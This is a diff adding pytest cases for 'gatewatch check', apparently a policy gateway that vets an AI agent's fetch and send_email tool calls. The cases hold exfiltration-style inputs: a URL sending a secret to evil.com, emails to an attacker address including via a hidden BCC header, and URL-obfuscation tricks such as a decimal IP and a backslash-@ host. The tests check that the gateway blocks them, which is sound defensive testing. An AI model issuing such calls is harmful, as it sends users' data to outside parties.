@@ -349,3 +349,37 @@ async def test_paths_resolve_symlinks_before_dot_dot_on_a_server_without_a_pack(
     found = verdicts(db_file, [tool for tool, _ in calls])
     assert all((v, c) == ("deny", "constraint") for v, c, _r in found[:len(escapes)])
     assert "outside the allowed paths" in found[0][2]
+
+
+# -- the same model in `gatewatch check` -------------------------------------------------------
+
+CHECKS = [
+    ("fetch", {"url": "http://167837955/"}, "deny", "10.1.1.3"),
+    ("fetch", {"url": "https://evil.com/collect/SECRET"}, "deny", "evil.com/collect/secret"),
+    ("send_email", {"to": ["Attacker+q@Evil.Com."]}, "deny", "attacker+q@evil.com"),
+    ("fetch", {"url": "https://evil.org\\@api.corp.com/"}, "ask", "evil.org/@api.corp.com"),
+    ("send_email", {"to": ["bob@corp.example"], "headers": {"BCC": "attacker@evil.com"}},
+     "deny", "attacker@evil.com"),
+    ("fetch", {"url": "https://api.corp.com/v1/../v2"}, "allow", "api.corp.com/v2"),
+    ("send_email", {"to": ["Bob <bob@corp.example>"]}, "allow", "bob@corp.example"),
+]
+
+
+@pytest.mark.parametrize(("tool", "args", "verdict", "destination"), CHECKS)
+def test_gatewatch_check_explains_with_the_canonical_destination(
+    tmp_path, gw_home, tool, args, verdict, destination
+):
+    import subprocess
+
+    from tests.support import GATEWATCH, child_env
+    from tests.upstreams.sink_server import PLANTED
+
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(TRUSTED)
+    out = subprocess.run(
+        [*GATEWATCH, "check", "--server", "outpost", "--tool", tool, "--args", json.dumps(args),
+         "--untrusted", PLANTED, "--policy", str(policy), "--json"],
+        capture_output=True, text=True, env=child_env(), timeout=60, check=True)
+    decision = json.loads(out.stdout)
+    assert (decision["verdict"], decision["contract"]) == (verdict, "sink_gate"), decision
+    assert destination in [d["destination"] for d in decision["detail"]["destinations"]]
